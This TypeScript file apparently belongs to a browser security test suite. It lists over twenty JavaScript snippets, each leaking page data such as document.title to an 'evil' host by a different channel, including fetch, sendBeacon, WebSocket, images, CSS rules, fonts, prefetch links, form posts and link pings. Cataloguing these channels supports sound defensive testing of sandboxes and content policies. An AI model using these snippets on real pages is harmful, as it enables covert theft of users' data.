import type { Attack } from './Attack';

const element = 'document.body.appendChild(document.createElement';

const linked =
  (rel: string, rest = ''): Attack =>
  ({ evil }) =>
    `const l = document.createElement('link'); l.rel = '${rel}'; ${rest} l.href = '${evil}/${rel}';
     document.head.append(l); await settled(l); l.remove()`;

const media =
  (name: string): Attack =>
  ({ evil }) =>
    `const m = ${element}('${name}')); m.src = '${evil}/${name}?' + document.title; await settled(m); m.remove()`;

/** Ways to carry what the page shows to somebody else without leaving the page. */
export const leaks: Readonly<Record<string, Attack>> = {
  fetch: ({ evil }) =>
    `await fetch('${evil}/fetch', { mode: 'no-cors', method: 'POST', body: document.title })`,
  'a fetch that outlives the page': ({ evil }) =>
    `await fetch('${evil}/keepalive', { mode: 'no-cors', keepalive: true })`,
  XMLHttpRequest: ({ evil }) =>
    `const x = new XMLHttpRequest(); x.open('GET', '${evil}/xhr'); x.send(); await settled(x)`,
  'a beacon': ({ evil }) => `navigator.sendBeacon('${evil}/beacon', document.title); await turn()`,
  'a socket': ({ evil }) =>
    `const w = new WebSocket('${evil.replace('http', 'ws')}/socket'); await settled(w)`,
  'an event stream': ({ evil }) => `const s = new EventSource('${evil}/stream'); await settled(s); s.close()`,
  'a picture': media('img'),
  'a film': media('video'),
  'a sound': media('audio'),
  'a frame': media('iframe'),
  'a picture nobody sees': ({ evil }) => `const i = new Image(); i.src = '${evil}/image'; await settled(i)`,
  'a background': ({ evil }) =>
    `const d = ${element}('div')); d.style.backgroundImage = 'url(${evil}/background)'; d.textContent = '.';
     d.getBoundingClientRect(); await turn(); d.remove()`,
  'a rule of style': ({ evil }) =>
    `const s = new CSSStyleSheet(); s.replaceSync('body { cursor: url(${evil}/cursor), auto }');
     document.adoptedStyleSheets.push(s); await turn(); document.adoptedStyleSheets.pop()`,
  'a style element': ({ evil }) =>
    `const s = document.createElement('style'); s.textContent = '@import "${evil}/import";'; document.head.append(s);
     await turn(); s.remove()`,
  'a font': ({ evil }) => `await new FontFace('evil', 'url(${evil}/font)').load()`,
  'styles from elsewhere': linked('stylesheet'),
  'a page fetched ahead': linked('prefetch'),
  'a file fetched ahead': linked('preload', "l.as = 'image';"),
  'a module fetched ahead': linked('modulepreload'),
  'a rule that loads pages ahead': ({ evil }) =>
    `const s = document.createElement('script'); s.type = 'speculationrules';
     s.text = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${evil}/ahead'] }] }); document.body.append(s);
     await turn()`,
  'a form in a frame': ({ evil }) =>
    `const f = ${element}('form')); f.method = 'post'; f.action = '${evil}/form'; f.target = 'sink';
     const i = ${element}('iframe')); i.name = 'sink'; f.submit(); await turn()`,
  'the ping of a link': ({ evil }) =>
    `const a = ${element}('a')); a.href = '/#/'; a.ping = '${evil}/ping'; a.click(); await turn(); a.remove()`,
};
